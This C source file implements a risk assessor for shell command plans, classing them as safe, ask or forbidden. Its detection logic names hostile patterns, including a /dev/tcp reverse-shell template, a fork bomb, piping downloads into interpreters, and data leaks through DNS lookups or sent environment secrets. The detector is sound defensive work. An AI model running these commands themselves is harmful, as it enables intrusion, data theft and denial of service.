/* SPDX-License-Identifier: Apache-2.0 */
/* A plan held against what is known of tools: the worst decides, all of them are told. */
#include "assess.h"
#include "facts.h"
#include "weigh.h"
#include "../base/path.h"

#include <string.h>

/* How far an assessment can be relied on, by what is known of the plan. */
static const double known = 0.9, partly_known = 0.7, not_known = 0.5, unknown = 0.3;

enum { WRAPPER_LIMIT = 64 };

static const char *const class_names[] = {
	[CLASS_SAFE] = "safe", [CLASS_ASK] = "ask", [CLASS_FORBIDDEN] = "forbidden"};
static const char *const risk_names[] = {[RISK_LOW] = "low",
					 [RISK_MEDIUM] = "medium",
					 [RISK_HIGH] = "high",
					 [RISK_CRITICAL] = "critical"};
static const char *const reach_names[] = {[REACH_NONE] = "none",
					  [REACH_WORKSPACE] = "workspace",
					  [REACH_HOME] = "home",
					  [REACH_SYSTEM] = "system"};

const char *class_name(enum class class)
{
	return (size_t) class < ELEMENTS(class_names) ? class_names[class] : NULL;
}

const char *risk_name(enum risk risk)
{
	return (size_t)risk < ELEMENTS(risk_names) ? risk_names[risk] : NULL;
}

const char *reach_name(enum reach reach)
{
	return (size_t)reach < ELEMENTS(reach_names) ? reach_names[reach] : NULL;
}

static void add_text(const char **texts, const char *text)
{
	for (; *texts; texts++)
		if (strcmp(*texts, text) == 0)
			return;
	*texts = text;
}

/* Tools that ask other machines, and tell them something by what they ask. */
static bool is_asking(const char *name)
{
	return is_downloader(name) || match_one("dig host nslookup drill ping whois", name);
}

static bool has_substitution(const struct command *command, size_t first)
{
	for (size_t i = first + 1; i < command->argc; i++)
		if (strstr(command->argv[i], "$(") || strchr(command->argv[i], '`'))
			return true;
	return false;
}

/* A language that reads its program from the standard input. */
static bool runs_code(const char *program)
{
	return match_one("python python[23]* perl ruby node nodejs php lua", path_last(program));
}

/* Facts that need more than one command to be true. */
static void weigh_together(struct weighing *weighing, const struct command *command, size_t first)
{
	const char *name = path_last(command->argv[first]);

	if (weighing->downloaded && runs_input(command, first))
		weigh_effect(weighing, EFFECT_REMOTE_CODE);
	if (weighing->file && runs_file(command, first, weighing->file))
		weigh_effect(weighing, EFFECT_REMOTE_CODE);
	if (weighing->decoded && runs_input(command, first))
		weigh_effect(weighing, EFFECT_HIDDEN_CODE);
	if (weighing->piped && is_shell(name) && runs_input(command, first))
		weigh_effect(weighing, EFFECT_PIPED_CODE);
	if (weighing->shown && is_asking(name) && has_substitution(command, first))
		weigh_effect(weighing, EFFECT_SEND_DATA);
	if (weighing->sql && is_sql_client(name))
		weigh_effect(weighing, EFFECT_DATABASE_RUIN);
	if (weighing->secrets && sends_input(command, first))
		weigh_effect(weighing, EFFECT_SEND_ENVIRONMENT);
	if (is_downloader(name)) {
		const char *file = download_file(command, first);

		weighing->downloaded = true;
		if (file)
			weighing->file = file;
	}
	weighing->decoded |= is_decoder(command, first);
	weighing->shown |= shows_file(command, first);
	weighing->secrets |= shows_secrets(command, first);
	weighing->sql |= match_one("echo printf cat", name) &&
			 holds_ruinous_sql(command, first, command->argc);
}

/* bash -i >& /dev/tcp/HOST/PORT */
static bool is_connection(const char *target)
{
	return match_one("/dev/tcp/* /dev/udp/*", target) &&
	       !match_one("/dev/[tu][cd]p/localhost/* /dev/[tu][cd]p/127.*", target);
}

/* : > FILE, cat /dev/null > FILE */
static bool prints_nothing(const struct weighing *weighing, const struct command *command)
{
	const char *name = command->argc ? path_last(command->argv[0]) : "";

	/* no words of its own: > FILE, if it is not what a group of commands is written to */
	return (command->argc == 0 && weighing->alone) ||
	       (command->argc == 1 && match_one(": true", name)) ||
	       (command->argc == 2 && match_one("cat", name) &&
		strcmp(command->argv[1], "/dev/null") == 0);
}

static void weigh_redirects(struct weighing *weighing, const struct command *command)
{
	for (size_t i = 0; i < command->redirect_count; i++) {
		const struct redirect *redirect = &command->redirects[i];

		if (strchr(redirect->operator, '>')) {
			if (is_connection(redirect->target))
				weigh_effect(weighing, EFFECT_SEND_DATA);
			else if (!match_one("[0-9] -", redirect->target))
				weigh_path(weighing, ROLE_WRITES, redirect->target, false);
			if (strcmp(redirect->operator, ">") == 0 && redirect->fd < 2 &&
			    prints_nothing(weighing, command) &&
			    path_reach(redirect->target) != REACH_NONE &&
			    is_precious(redirect->target))
				weigh_effect(weighing, EFFECT_EMPTY_FILE);
		} else if (strncmp(redirect->operator, "<<", 2) == 0) {
			/* python3 <<END */
			if (command->program < command->argc &&
			    runs_code(command->argv[command->program]))
				weigh_path(weighing, ROLE_CODE, redirect->target, false);
		} else if (strcmp(redirect->operator, "<") == 0) {
			weigh_path(weighing, ROLE_READS, redirect->target, false);
		}
	}
}

/* And nobody knows what. */
static bool prints_something(const struct command *command, size_t first)
{
	return first < command->argc && !prints_words(command, first) &&
	       !match_one("cd pushd popd export set unset source . mkdir touch sleep clear alias",
			  path_last(command->argv[first]));
}

/* The command itself, and the one behind each wrapper. */
static void weigh_command(struct weighing *weighing, const struct command *command)
{
	struct assessment *assessment = weighing->assessment;
	size_t first = 0;

	weighing->changes = false;
	for (size_t level = 0; first < command->argc && level <= WRAPPER_LIMIT; level++) {
		size_t next = parse_wrapped(command, first);
		const struct effect *before = weighing->worst;
		bool changes = weighing->changes;
		enum reach files = assessment->files;

		weighing->reads = false;
		weigh_call(weighing, command, first, next ? next : command->argc);
		weigh_together(weighing, command, first);
		if (next == 0)
			break;
		/* that it runs something is said by what it runs */
		if (weighing->worst == before && assessment->files == files)
			weighing->changes = changes;
		first = next;
	}
	weighing->piped = prints_something(command, first);
	weigh_redirects(weighing, command);
	/* words before a command alone change nothing but variables */
	if (weighing->changes || (first < command->argc && !weighing->reads)) {
		assessment->only_reads = false;
		assessment->files = MAX(assessment->files, REACH_WORKSPACE);
	}
}

static bool calls(const struct plan *plan, size_t i, const char *name)
{
	return i < plan->count && plan->commands[i].argc > 0 &&
	       strcmp(plan->commands[i].argv[0], name) == 0;
}

/* `f() { f | f & }; f`: a definition, its first two commands are calls of itself, and then it is
 * called. */
static bool is_fork_bomb(const struct plan *plan, size_t i)
{
	const struct command *command = &plan->commands[i];

	return calls(plan, i, "function") && command->argc == 2 &&
	       calls(plan, i + 1, command->argv[1]) && calls(plan, i + 2, command->argv[1]) &&
	       calls(plan, i + 3, command->argv[1]);
}

static bool is_dangerous(const struct plan *plan)
{
	for (size_t i = 0; i < plan->count; i++) {
		const struct command *command = &plan->commands[i];

		/* a program that is known has been weighed */
		for (size_t j = 0; j < command->argc; j++)
			if ((j != command->program || !tool_find(path_last(command->argv[j]))) &&
			    holds_dangerous_word(command->argv[j]))
				return true;
		for (size_t j = 0; j < command->assignment_count; j++)
			if (holds_dangerous_word(command->assignments[j]))
				return true;
	}
	return false;
}

/* The strictest sandbox is the one that everything runs in, so a plan that is merely not known to
 * the end runs there. It is asked about where the text could not be read, and where what is hidden
 * may well be harm. */
static void weigh_opacity(struct arena *arena, struct weighing *weighing, const struct plan *plan)
{
	struct assessment *assessment = weighing->assessment;

	assessment->risk = MAX(assessment->risk, RISK_MEDIUM);
	assessment->confidence = unknown;
	assessment->only_reads = false;
	assessment->files = MAX(assessment->files, REACH_WORKSPACE);
	add_text(assessment->categories, "unknown");
	add_text(assessment->reasons,
		 arena_printf(arena, "not all of it could be read: %s", plan->opaque_why));
	if (plan->opacity == OPAQUE_UNREAD)
		weigh_effect(weighing, EFFECT_UNREAD);
	else if (is_dangerous(plan))
		weigh_effect(weighing, EFFECT_UNNAMED);
}

void assess_plan(struct arena *arena, const struct plan *plan, struct assessment *ret_assessment)
{
	enum { MOST_TEXTS = EFFECT_COUNT + 4 };
	struct assessment assessment = {
		.categories = arena_new_array(arena, const char *, MOST_TEXTS),
		.reasons = arena_new_array(arena, const char *, MOST_TEXTS),
		.rules = arena_new_array(arena, const char *, plan->count + 1),
		.reversible = true,
		.only_reads = true,
		.confidence = known,
	};
	struct weighing weighing = {.assessment = &assessment, .alone = plan->count == 1};

	for (size_t i = 0; i < plan->count; i++) {
		weighing.worst = NULL;
		weigh_command(&weighing, &plan->commands[i]);
		if (is_fork_bomb(plan, i))
			weigh_effect(&weighing, EFFECT_FORK_BOMB);
		if (plan->commands[i].dynamic)
			assessment.confidence = MIN(assessment.confidence, partly_known);
		if (weighing.worst)
			assessment.rules[i] = tool_text(weighing.worst->name);
	}
	if (assessment.unknown)
		assessment.confidence = MIN(assessment.confidence, not_known);
	if (plan->opaque)
		weigh_opacity(arena, &weighing, plan);
	else if (weighing.hidden && is_dangerous(plan))
		weigh_effect(&weighing, EFFECT_UNNAMED);
	/* What was added last is why, where no effect weighs as much as the whole. */
	for (const char **reason = assessment.reasons; *reason; reason++)
		assessment.why = *reason;
	if (weighing.heaviest && weighing.heaviest->class == assessment.class)
		assessment.why = tool_text(weighing.heaviest->reason);
	*ret_assessment = assessment;
}
